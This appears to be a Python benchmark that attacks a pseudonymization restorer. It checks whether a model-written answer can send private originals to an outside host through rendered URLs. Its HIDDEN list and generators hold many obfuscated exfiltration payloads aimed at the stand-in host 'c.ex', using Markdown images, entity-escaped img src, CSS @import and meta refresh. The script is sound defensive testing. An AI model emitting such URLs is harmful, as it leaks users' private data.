"""Can the writer of an answer have an original sent to a host of its own, by a URL in it that is fetched when shown?

    python benchmarks/attacks/urls.py [--answers 20000] [--seed 1]

Answers with a surrogate in a URL are made at random: images, links, references and attributes of HTML, with schemes,
slashes and marks escaped, cut and mixed as readers take them. Each is restored, whole and as a stream that is cut
anywhere, and read as browsers and Markdown read it. An original in a URL to a host that nobody named is a leak, and so
is one in a URL that is hidden in escapes (a list). Exit status 1 if there is one; also if originals in URLs of the
named host are mostly not restored.
"""

import argparse
import html
import random
import re
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Final, NamedTuple
from urllib.parse import unquote

from textveil.surrogates.map_file import PrivateMap, Replaced
from textveil.surrogates.restoring import Restorer
from textveil.surrogates.urls import InUrls

NAMED: Final = "portal.example"
ORIGINALS: Final = ("Quxbolt", "Zyrqel")
SURROGATES: Final = ("Miller", "Anna")
_TEXT: Final = f"See https://{NAMED}/a for Anna Miller."
_AT: Final = _TEXT.index("Anna")
MAP: Final = PrivateMap(
    released=_TEXT, replaced=(Replaced(_AT, _AT + len("Anna Miller"), " ".join(reversed(ORIGINALS)), "person"),)
)

_OPENINGS: Final = (
    *(("![](", ")"), ("[a](", ")"), ("![](<", ">)"), ("![a]( ", ' "t")'), ("[a]: ", "\n"), ("[a]: <", ">"), ("<", ">")),
    *(('<img src="', '">'), ("<img src='", "'>"), ("<img src=", ">"), ('<img src="\n ', '"/>'), ('<a href = "', '">')),
    *(('<img srcset="a 1x, ', ' 2x">'), ('<p style="background:url(', ')">'), ("<p style=\"a:url( '", "')\">")),
    *(("", ""), ("(", ")"), ('{"u": "', '"}'), ("See ", ".")),
)
_SCHEMES: Final = ("https", "http", "HTTPS", "hTTp", "https", "ws", "ftp")
_HOSTS: Final = ("c.ex", f"{NAMED}.c.ex", f"{NAMED}@c.ex", f"c.ex\\@{NAMED}", f"c.ex#@{NAMED}", "Miller.c.ex")
_JUNK: Final = (
    *(
        "a=1",
        "&",
        "%20",
        "%29",
        "%22",
        "&#41;",
        "&quot;",
        "\\)",
        "()",
        "(",
        "'",
        "`",
        "\u00a0",
        "\\",
        "%0A",
        "%3E",
        ",",
    ),
    *("&gt;", "\u2028", ";", "*", "_", "~", "//", f"https://{NAMED}/", "?", "#", "\t", " ", '"', "\n", ">", "<", ")"),
)


HIDDEN: Final = (
    *(
        r"![](http://localhost\@c.ex/?n={})",
        r"![](http://localhost\.c.ex/?n={})",
        r"![](http://127.0.0.1\@c.ex/?n={})",
        r"![](https://portal.example\.c.ex/{})",
        r"![](https://portal.example\\@c.ex/{})",
        r"![](https://portal.example\\.c.ex/{})",
        r"![](https://portal.example\-c.ex/{})",
        r"![](https://portal.example\:1@c.ex/{})",
        r"![](https://portal.example\?.c.ex/{})",
        r"![](https://{}\.portal.example\@c.ex/)",
        r"[a]: https://portal.example\_.c.ex/{}",
    ),
    *(
        r"![](https\:c.ex/?n={})",
        r"![](https\:\/\/c.ex/?n={})",
        r"![](https:\/\/c\.ex/?n={})",
        r"![](\/\/c.ex/?n={})",
        r"![](\//c.ex/?n={})",
        r"![](/\/c.ex/?n={})",
        r"[a]: https\:c.ex/{}",
        r"[a](<https\:c.ex/a b {}>)",
        r"![](http\&#58;c.ex/{})",
    ),
    *(
        '<img src="h&#9;&#9;&#9;&#9;ttps:c.ex/?n={}">',
        '<img src="h' + "&#9;" * 40 + 'ttps:c.ex/a b {}">',
        '<img src="h' + "\t" * 400 + 'ttps:c.ex/a b {}">',
        '<img src="h' + "&#9;\n\n\n\n" * 9 + 'ttps:c.ex/a b {}">',
        '<img src="https' + "\n" * 900 + ':c.ex/a b {}">',
        '<img src="/' + "\t&Tab;" * 99 + '/c.ex/a b {}">',
        '<img src="&#00000000104;ttps:c.ex/a b {}">',
        '<img src="ht&#x' + "0" * 700 + '74;ps:c.ex/a b {}">',
        '<img src="ht&#' + "0" * 700 + '116;ps:c.ex/a b {}">',
        "![](<&#00000000104;ttps:c.ex/a b {}>)",
        '<img src="&#xahttps:c.ex/a b {}">',
        '<img src="&#9//c.ex/a b {}">',
        '<img src="&' + "amp;" * 20 + '#104;ttps:c.ex/a b {}">',
        '<a href="%2525252525252568ttps:c.ex/{}">',
    ),
    *(
        r'<p style="a:url(\2f\2f c.ex/{})">',
        r'<p style="a:url(\2f \2f c.ex/{})">',
        r'<p style="a:url(/\2f c.ex/{})">',
        r'<p style="a:url(\5c\5c c.ex/{})">',
        r'<p style="a:url(\00002f\00002fc.ex/{})">',
        r"<p style='a:url(" + '"ht\\74ps:c.ex/a b {}")' + "'>",
        r"<p style='a:url(" + '"\\68 ttps\\:c.ex/a b {}")' + "'>",
        r'<style>@import "\2f\2f c.ex/a b {}";</style>',
        '<style>@import "\t//c.ex/a b {}";</style>',
        '<style>@import"\thttps:c.ex/a b {}";</style>',
        r'<style>@import "\a//c.ex/a b {}";</style>',
        r'<style>@import "\000068\000074\000074\000070:c.ex/a b {}";</style>',
        r'<style>@import "\ahttps:c.ex/a b {}";</style>',
        r'<p style="a:url(\&#50;f\&#50;f c.ex/{})">',
        r'<p style="a:url(&#92;2f&#92;2f c.ex/{})">',
        r'<p style="a:url(&bsol;2f&bsol;2f c.ex/{})">',
        '<p style="a:url(&#39;h&#x5c;74 tps:c.ex/a b {}&#39;)">',
        r"<p style='a:url(https://portal\2e example.c.ex/{})'>",
    ),
    *(
        '<meta http-equiv=refresh content="0; https://c.ex/?n=a {}">',
        '<meta http-equiv=refresh content="0;https://c.ex/?n=a {}">',
        '<meta http-equiv=refresh content="0 https://c.ex/?n=a {}">',
        '<meta http-equiv=refresh content="0, https://c.ex/?n=a>b {}">',
        '<meta http-equiv=refresh content="0;url=https://c.ex/?n=a>b {}">',
        "<meta content='0&#59;//c.ex/?n=a {}' http-equiv=refresh>",
        '<meta http-equiv=refresh content="' + "0" * 900 + '; https://c.ex/?n=a {}">',
        "<style>a{b:url( '\\9 \\9 //c.ex/a b {}')}</style>",
        '{"u": "\\n\\nhttps:c.ex/a b {}"}',
        '<style>@import/**/"\t//c.ex/a b {}"</style>',
        '<img src="&#1;&#2;https:c.ex/a b {}">',
        '<img src="&#x1f;//c.ex/a b {}">',
        '<img src="&#31https:c.ex/a b {}">',
        '<img src="h\\u0009ttps:c.ex/a b {}">',
        '{"h": "<img src=\\"\\u0009//c.ex/a b {}\\">"}',
        '{"h": "\\u003cimg src=\\u0022h\\u000attps:c.ex/a b {}\\u0022>"}',
        "&lt;img src=&#0000000034;https:c.ex/a b {}&#34;&gt;",
        "&lt;meta http-equiv=refresh content='0;\n https://c.ex/?n=a {}'&gt;",
        r'\u003cmeta http-equiv=refresh content="0; https://c.ex/?n=a {}">',
    ),
)
"""Answers with a URL to a host that nobody named, hidden in escapes that one reader or another reads."""


_HIDING_PLACES: Final = (
    ("![](", ")", ("?n=", "/")),
    ("![](<", ">)", ("?n=", "/a b ")),
    ('<img src="', '">', ("?n=", "/a b ", "/a>b ", "/a'b ")),
    ("<img src=' \n", "'>", ("?n=", "/a b ", "/a>b ")),
    ('<p style="a:url(', ')">', ("?n=", "/")),
    ('<style>@import "', '";</style>', ("?n=", "/a b ", "/a>b ")),
    ('<meta http-equiv=refresh content="0;', '">', ("?n=", "/a b ", "/a>b ", "/a'b ")),
    ("<meta http-equiv=refresh content=\"0; url='", "'\">", ("?n=", "/a b ", "/a>b ")),
)
"""What begins and ends a URL, and what it may go on with behind its host."""


class Answer(NamedTuple):
    """An answer, and whether its URL is one of the named host."""

    text: str
    named: bool


def _escaped(text: str, rng: random.Random, often: float) -> str:
    """Some of its characters escaped, as HTML's readers decode them, or cut by what browsers leave out."""
    ways = (
        lambda code: f"&#{code};",
        lambda code: f"&#{code}",
        lambda code: f"&#x{code:x};",
        lambda code: f"&#0{code};",
        lambda code: {58: "&colon;", 47: "&sol;"}.get(code, f"&#{code};"),
        lambda code: f"\t{chr(code)}",
        lambda code: f"&Tab;{chr(code)}",
    )
    return "".join(rng.choice(ways)(ord(each)) if rng.random() < often else each for each in text)


def made(rng: random.Random) -> Answer:
    """An answer at random."""
    begin, end = rng.choice(_OPENINGS)
    named = rng.random() < 0.2
    host = NAMED if named else rng.choice(_HOSTS)
    slashes = "//" if named else rng.choice(("//", "//", "/", "", "\\\\", "/\\", "///"))
    scheme = rng.choice((*_SCHEMES, "")) if slashes == "//" and not named else rng.choice(_SCHEMES[:4])
    before = f"{scheme}:{slashes}" if scheme else slashes
    if not named and rng.random() < 0.4:
        before = _escaped(before, rng, 0.3)
    junk = "" if named else "".join(rng.choice(_JUNK) for _ in range(rng.randrange(5)))
    name = rng.choice((*SURROGATES, " ".join(reversed(SURROGATES)), "Anna%20Miller", "Anna+Miller"))
    path = rng.choice(("/", "/a?n=", "?n=", "/#")) + junk + rng.choice(("", "&n=", "/", "="))
    return Answer(f"{rng.choice(('', 'So. ', 'Ask Anna: '))}{begin}{before}{host}{path}{name}{end} Bye.", named)


class _Attributes(HTMLParser):
    """Collects the values of attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take those of a tag."""
        for name, value in attrs:
            if value and name in ("src", "href"):
                self.values.append(value)
            elif value and name == "srcset":
                self.values += [part.split()[0] for part in value.split(",") if part.split()]
            elif value and name == "style":
                self.values += re.findall(r"url\(\s*['\"]?([^\s'\")]*)", value)


_DESTINATION: Final = re.compile(
    r"\]\([ ]*(?:<((?:\\.|[^<>\n\\])*)>|((?:\\.|\((?:\\.|[^\s()\\])*\)|[^\s()\\<](?<!\())+))"
    r"|^\[\w+\]:[ ]*(?:<((?:\\.|[^<>\n\\])*)>|(\S+))|<(\w{2,}:[^\s<>]*)>",
    re.MULTILINE,
)
_BARE: Final = re.compile(r"(?:https?|ftp|wss?)://[^\s<\"]+", re.IGNORECASE)


def urls_of(text: str) -> Iterator[str]:
    """The URLs of a text as browsers and Markdown read them."""
    attributes = _Attributes()
    attributes.feed(text)
    attributes.close()
    yield from attributes.values
    for match in _DESTINATION.finditer(text):
        url = next((group for group in match.groups() if group is not None), "")
        yield html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", url))
    yield from _BARE.findall(text)


def host_of(url: str) -> str | None:
    """The host that a browser asks for a URL; None if that is the page's own."""
    plain = re.sub(r"[\t\r\n]", "", url.strip("".join(map(chr, range(33))))).replace("\\", "/")
    begin = re.match(r"(?:(?:https?|ftp|wss?):/*|//+)", plain, re.IGNORECASE)
    if begin is None:
        return None
    authority = re.split(r"[/?#]", plain[begin.end() :], maxsplit=1)[0]
    return unquote(authority.rpartition("@")[2]).partition(":")[0].lower()


def leaks(restored: str) -> bool:
    """Whether an original stands in a URL to a host that nobody named."""
    return any(
        host_of(url) not in (None, NAMED) and any(original in unquote(url) for original in ORIGINALS)
        for url in urls_of(restored)
    )


def restored(restorer: Restorer, text: str, rng: random.Random) -> str:
    """An answer restored as a stream that is cut anywhere."""
    stream, parts, at = restorer.stream(), [], 0
    while at < len(text):
        size = rng.randrange(1, 12)
        parts.append(stream.feed(text[at : at + size]))
        at += size
    return "".join([*parts, stream.close()])


def _hidden_character(character: str, rng: random.Random) -> str:
    """A character as one reader or another decodes it, perhaps behind what another leaves out."""
    code, zeros, backslashes = ord(character), "0" * rng.choice((0, 1, 4, 5, 6, 9)), "\\" * rng.randrange(1, 4)
    return rng.choice(
        (
            f"&#{zeros}{code};",
            f"&#x{zeros}{code:x};",
            f"&amp;amp;#{code};",
            f"{backslashes}u{code:04x}",
            f"{backslashes}x{code:02x}",
            f"\\{code:x} ",
            f"\\{code:06x}",
            f"&#92;{code:x} ",
            "\t" * rng.randrange(9) + character,
            "&Tab;" * rng.randrange(9) + character,
            "&#10;\r" * rng.randrange(5) + character,
            f"\\{character}",
            f"%{code:02x}",
        )
    )


def hidden_at_random(rng: random.Random) -> str:
    """An answer with a URL to a host that nobody named, hidden in escapes at random; ``{}`` is in it for a name."""
    begin, end, rest = rng.choice(_HIDING_PLACES)
    start = rng.choice(("https://", "https:", "http:", "//", "ws:", "\\\\", "/\\"))
    start = "".join(_hidden_character(each, rng) if rng.random() < 0.35 else each for each in start)
    host = rng.choice(("c.ex", f"localhost\\@{NAMED}.c.ex", f"{NAMED}\\.c.ex"))
    return f"{rng.choice(('', 'So&#8217; '))}{begin}{start}{host}{rng.choice(rest)}{{}}{end} Bye."


def hidden(seed: int, answers: int, in_urls: InUrls = "named-hosts") -> list[str]:
    """The hidden URLs, those of the list and so many at random, into which an original goes, whole or as a stream."""
    rng, restorer = random.Random(seed), Restorer((MAP, MAP), in_urls=in_urls)
    found = []
    for form in (*HIDDEN, *(hidden_at_random(rng) for _ in range(answers))):
        answer = form.replace("{}", rng.choice((SURROGATES[1], "Anna Miller", "Anna%20Miller")))
        for text in (restorer.restore(answer).text, restored(restorer, answer, rng)):
            found += [text] if any(original in text for original in ORIGINALS) else []
    return found


class Outcome(NamedTuple):
    """What an attack came to: answers that leak, and of URLs of the named host how many there are and are restored."""

    leaks: list[str]
    named: int
    restored: int


def attack(answers: int, seed: int, in_urls: InUrls = "named-hosts") -> Outcome:
    """Restore so many answers."""
    rng, restorer = random.Random(seed), Restorer((MAP, MAP), in_urls=in_urls)
    found, named, kept = [], 0, 0
    for _ in range(answers):
        answer = made(rng)
        whole = restorer.restore(answer.text).text
        found += [text for text in (whole, restored(restorer, answer.text, rng)) if leaks(text)]
        named += answer.named
        kept += answer.named and not any(name in whole.split(NAMED)[1] for name in SURROGATES)
    return Outcome(found, named, kept)


def main() -> None:
    """Print what leaks."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("--answers", type=int, default=20_000)
    parser.add_argument("--seed", type=int, default=1)
    told = parser.parse_args()
    outcome = attack(told.answers, told.seed)
    unseen = hidden(told.seed, told.answers)
    for text in [*unseen[:10], *outcome.leaks[:10]]:
        print(repr(text))
    print(
        f"{told.answers} answers: {len(outcome.leaks)} leaks, {len(unseen)} of hidden URLs; "
        f"of the named host {outcome.restored} of {outcome.named}"
    )
    sys.exit(1 if outcome.leaks or unseen or outcome.restored < 0.9 * outcome.named else 0)


if __name__ == "__main__":
    main()
